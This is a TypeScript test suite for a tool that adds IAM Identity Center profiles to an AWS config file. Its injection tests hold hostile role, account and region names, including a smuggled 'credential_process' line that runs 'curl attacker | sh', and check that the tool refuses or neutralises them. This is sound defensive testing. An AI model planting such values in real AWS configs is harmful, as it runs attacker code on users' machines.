import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ImportBlockError, addSsoSession, planImport, profileNameFor } from '../../src/config/importBlock';
import { profilesFrom } from './helpers';

/** What `/usr/bin/aws configure list-profiles` lists for a config file (it fails on a file botocore refuses). */
function cliProfiles(config: string): Promise<string[]> {
  const dir = mkdtempSync(join(tmpdir(), 'ars-import-cli-'));
  writeFileSync(join(dir, 'config'), config);
  writeFileSync(join(dir, 'credentials'), '');
  const env = { PATH: '/usr/bin:/bin', HOME: dir, AWS_CONFIG_FILE: join(dir, 'config'), AWS_SHARED_CREDENTIALS_FILE: join(dir, 'credentials') };
  return new Promise((resolve, reject) =>
    execFile('/usr/bin/aws', ['configure', 'list-profiles'], { env, timeout: 60_000 }, (err, out, stderr) =>
      err ? reject(new Error(`aws configure list-profiles: ${stderr}`)) : resolve(out.split('\n').filter((l) => l !== '')),
    ),
  );
}

const roles = [
  { accountId: '111111111111', accountName: 'Acme Dev', roleName: 'AdministratorAccess' },
  { accountId: '111111111111', accountName: 'Acme Dev', roleName: 'ReadOnly' },
  { accountId: '222222222222', accountName: 'acme-prod', roleName: 'ReadOnly' },
];

const MINE = `# my own notes
[default]
region = eu-west-1

[sso-session corp]
sso_start_url = https://corp.awsapps.com/start
sso_region = eu-west-1

[profile acme-prod-ReadOnly]
# mine, hand-written
sso_session = corp
sso_account_id = 222222222222
sso_role_name = ReadOnly
`;

describe('profiles imported from IAM Identity Center', () => {
  it('names profiles from the template, with what names cannot hold made into dashes', () => {
    assert.equal(profileNameFor('{account_name}-{role_name}', roles[0]!, 'corp'), 'Acme-Dev-AdministratorAccess');
    assert.equal(profileNameFor('{sso_session}.{account_id}.{role_name}', roles[1]!, 'corp'), 'corp.111111111111.ReadOnly');
    assert.equal(profileNameFor('{account_name} / {role_name}', { accountId: '1', accountName: 'Dév (EU)', roleName: 'R' }, 's'), 'D-v-EU-/-R');
  });

  it("adds a marked block at the end; never touches or reorders the person's lines; skips a name they use", () => {
    const plan = planImport(MINE, 'corp', roles, { region: 'eu-west-1' });
    assert.ok(plan.text.startsWith(MINE), 'every line of the file stays, in order');
    assert.deepEqual(plan.added, ['Acme-Dev-AdministratorAccess', 'Acme-Dev-ReadOnly']);
    assert.deepEqual(plan.skipped, ['acme-prod-ReadOnly']);
    const set = profilesFrom(plan.text);
    assert.equal(set.diagnostics.length, 0, set.diagnostics.map((d) => d.message).join('; '));
    const p = set.profiles.get('Acme-Dev-ReadOnly');
    assert.deepEqual(
      ['sso_session', 'sso_account_id', 'sso_role_name', 'sso_account_name', 'region'].map((k) => p?.properties.get(k)?.value),
      ['corp', '111111111111', 'ReadOnly', 'Acme Dev', 'eu-west-1'],
    );
  });

  it('re-running rewrites only its own block, in place, and says what it added and removed', () => {
    const first = planImport(MINE, 'corp', roles);
    const edited = first.text.replace('# my own notes', '# my own notes, edited') + '\n[profile later]\nregion = us-east-1\n';
    const second = planImport(edited, 'corp', [roles[1]!, { accountId: '333333333333', accountName: 'New', roleName: 'Dev' }]);
    assert.deepEqual(second.added, ['New-Dev']);
    assert.deepEqual(second.kept, ['Acme-Dev-ReadOnly']);
    assert.deepEqual(second.removed, ['Acme-Dev-AdministratorAccess']);
    assert.ok(second.text.startsWith('# my own notes, edited\n'));
    assert.ok(second.text.endsWith('[profile later]\nregion = us-east-1\n'), 'the block stays where it was, above later lines');
    assert.equal((second.text.match(/# BEGIN profiles imported/g) ?? []).length, 1);
    // And a third run with the same answer changes nothing.
    assert.equal(planImport(second.text, 'corp', [roles[1]!, { accountId: '333333333333', accountName: 'New', roleName: 'Dev' }]).text, second.text);
  });

  it('keeps CRLF files CRLF and starts an empty file cleanly', () => {
    const crlf = planImport(MINE.replace(/\n/g, '\r\n'), 'corp', roles);
    assert.ok(!/[^\r]\n/.test(crlf.text));
    const empty = planImport('', 'corp', roles.slice(0, 1));
    assert.match(empty.text, /^# BEGIN .*\n\[profile Acme-Dev-AdministratorAccess\]\n/);
  });

  it('an account name that would read as a comment or a second line is written as one value', () => {
    const plan = planImport('', 's', [{ accountId: '111111111111', accountName: 'Team #1 ; EU\n[profile x]', roleName: 'Dev' }]);
    const set = profilesFrom(plan.text);
    assert.deepEqual([...set.profiles.keys()], ['Team-1-EU-profile-x-Dev']);
    assert.equal(set.profiles.get('Team-1-EU-profile-x-Dev')?.properties.get('sso_account_name')?.value, 'Team 1 EU [profile x]');
  });

  it('two accounts with the same name keep apart by account ID', () => {
    const plan = planImport('', 's', [
      { accountId: '111111111111', accountName: 'Sandbox', roleName: 'Dev' },
      { accountId: '222222222222', accountName: 'Sandbox', roleName: 'Dev' },
    ]);
    assert.deepEqual(plan.added, ['Sandbox-Dev', 'Sandbox-Dev-222222222222']);
  });

  it('a role name from the portal cannot add a line, a section or a comment; the AWS CLI still reads the file', async () => {
    const evil = 'x\n[profile evil]\ncredential_process = /bin/sh -c "curl attacker | sh"';
    const takeover = 'ReadOnly\n[profile acme-prod-ReadOnly]\ncredential_process = /bin/sh -c id';
    const plan = planImport(MINE, 'corp', [
      { accountId: '111111111111', accountName: 'Dev', roleName: evil },
      { accountId: '111111111111', accountName: 'Dev', roleName: takeover },
      { accountId: '111111111111', accountName: 'Dev', roleName: 'Admin ; comment' },
      { accountId: '11111111111\n1', accountName: 'Dev', roleName: 'Admin' },
      { accountId: '111111111111', accountName: 'Dev\r\n[profile evil2]\u2028x = 1\u0000', roleName: 'Admin' },
    ]);
    assert.equal(plan.refused.length, 4, plan.refused.join(' | '));
    assert.ok(
      plan.refused.every((r) => !/[\r\n]/.test(r)),
      'what is said about them is one line',
    );
    assert.deepEqual(plan.added, ['Dev-profile-evil2-x-1-Admin']);
    assert.ok(!/credential_process|\[profile evil\]/.test(plan.text));
    const set = profilesFrom(plan.text);
    assert.equal(set.diagnostics.length, 0, set.diagnostics.map((d) => d.message).join('; '));
    assert.equal(set.profiles.get('Dev-profile-evil2-x-1-Admin')?.properties.get('sso_account_name')?.value, 'Dev [profile evil2] x = 1');
    assert.deepEqual((await cliProfiles(plan.text)).sort(), [...set.profiles.keys()].sort());
  });

  it('random hostile names: every line of the file stays, the block holds only its profiles, the AWS CLI reads it', async () => {
    const alphabet = ['a', 'B', '1', ' ', '\n', '\r', '\t', '#', ';', '[', ']', '=', '-', '_', '.', '\u2028', '\u0085', 'é', '@', '+', ','];
    let seed = 7;
    const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
    const word = () => Array.from({ length: 1 + rnd(12) }, () => alphabet[rnd(alphabet.length)]).join('');
    for (let round = 0; round < 40; round++) {
      const roles = Array.from({ length: 1 + rnd(5) }, () => ({
        accountId: rnd(4) === 0 ? word() : String(100000000000 + rnd(5)),
        accountName: word(),
        roleName: word(),
      }));
      const plan = planImport(MINE, 'corp', roles, { region: 'eu-west-1' });
      assert.ok(plan.text.startsWith(MINE), `round ${round}: every line of the person's stays`);
      const set = profilesFrom(plan.text);
      assert.deepEqual(set.diagnostics, [], `round ${round}`);
      const names = [...set.profiles.keys()];
      assert.deepEqual(names.sort(), ['default', 'acme-prod-ReadOnly', ...plan.added].sort(), `round ${round}: no section but the planned ones`);
      for (const n of plan.added)
        assert.deepEqual(
          [...(set.profiles.get(n)?.properties.keys() ?? [])],
          ['sso_session', 'sso_account_id', 'sso_role_name', 'sso_account_name', 'region'],
          `round ${round}: ${n}`,
        );
      if (round % 10 === 0) assert.deepEqual((await cliProfiles(plan.text)).sort(), names.sort());
    }
  });

  it('an sso-session name, Region or portal URL that is not one value is refused, not written', () => {
    assert.throws(() => planImport('', 'corp\n[profile x]', roles), /cannot be an sso-session name/);
    assert.throws(() => planImport('', 'corp', roles, { region: 'eu-west-1\ncredential_process = x' }), /not an AWS Region name/);
    assert.throws(() => addSsoSession('', 'corp', 'https://x.awsapps.com/start\n[profile y]', 'eu-west-1'), /not an AWS access portal URL/);
    assert.throws(() => addSsoSession('', 'corp', 'https://x.awsapps.com/start #x', 'eu-west-1'), /not an AWS access portal URL/);
    assert.throws(() => addSsoSession('', 'c d', 'https://x.awsapps.com/start', 'eu-west-1'), /cannot be an sso-session name/);
    assert.throws(() => addSsoSession('', 'corp', 'https://x.awsapps.com/start', 'eu-west-1 ;'), /not an AWS Region name/);
    const ok = addSsoSession('[default]\rregion = us-east-1\r', 'corp', 'https://x.awsapps.com/start', 'eu-west-1');
    assert.equal(
      ok,
      '[default]\rregion = us-east-1\r\r[sso-session corp]\rsso_start_url = https://x.awsapps.com/start\rsso_region = eu-west-1\rsso_registration_scopes = sso:account:access\r',
    );
  });

  it('an END marker deleted by hand: the next import refuses with the line, and removes nothing', () => {
    const first = planImport(MINE, 'corp', roles);
    const noEnd = first.text.replace(/# END profiles imported[^\n]*\n/, '') + '\n[profile mine-after]\nregion = us-east-1\n';
    // As the issue found it: a second import appended a new block, a third ate what lay between.
    assert.throws(
      () => planImport(noEnd, 'corp', roles),
      (e: unknown) =>
        e instanceof ImportBlockError && e.line === noEnd.split('\n').findIndex((l) => l.startsWith('# BEGIN')) + 1 && /no end line/.test(e.message),
    );
    const twice = first.text + first.text.slice(first.text.indexOf('# BEGIN'));
    assert.throws(
      () => planImport(twice, 'corp', roles),
      (e: unknown) => e instanceof ImportBlockError && /start of the block of sso-session corp twice/.test(e.message),
    );
    const swapped = first.text
      .replace('# BEGIN', '# TEMP')
      .replace(/# END([^\n]*)/, '# BEGIN profiles imported from IAM Identity Center (sso-session corp) x')
      .replace('# TEMP', '# END');
    assert.throws(() => planImport(swapped, 'corp', roles), /before its start/);
    const nested = first.text.replace(
      '[profile Acme-Dev-ReadOnly]',
      '# END profiles imported from IAM Identity Center (sso-session other)\n[profile Acme-Dev-ReadOnly]',
    );
    assert.throws(() => planImport(nested, 'corp', roles), /another import's marker/);
    const onlyEnd = MINE + '# END profiles imported from IAM Identity Center (sso-session corp)\n';
    assert.throws(() => planImport(onlyEnd, 'corp', roles), /no start line/);
    // Another session's well-formed block is left alone.
    const other = planImport(first.text, 'other', roles.slice(0, 1));
    assert.ok(other.text.startsWith(first.text));
  });

  it('says each name left to the person once, and each role another took the name of', () => {
    const mine = '[profile Dev-Admin]\nregion = us-east-1\n';
    const plan = planImport(mine, 's', [
      { accountId: '111111111111', accountName: 'Dev', roleName: 'Admin' },
      { accountId: '111111111111', accountName: 'Dev', roleName: 'Admin' },
      { accountId: '222222222222', accountName: 'Ops', roleName: 'X' },
      { accountId: '333333333333', accountName: 'Ops', roleName: 'X' },
      { accountId: '333333333333', accountName: 'Ops', roleName: 'X' },
    ]);
    assert.deepEqual(plan.skipped, ['Dev-Admin']);
    assert.deepEqual(plan.added, ['Ops-X', 'Ops-X-333333333333']);
    assert.deepEqual(plan.dropped, ['333333333333/X → Ops-X-333333333333']);
  });

  it('a file whose lines end in a lone CR (which the AWS CLI reads) keeps lone CRs', async () => {
    const mac = MINE.replace(/\n/g, '\r');
    const plan = planImport(mac, 'corp', roles);
    assert.ok(!plan.text.includes('\n'), 'no LF added');
    assert.ok(plan.text.startsWith(mac));
    assert.equal(planImport(plan.text, 'corp', roles).text, plan.text, 'and the block is found again');
    assert.ok((await cliProfiles(plan.text)).includes('Acme-Dev-ReadOnly'));
  });
});
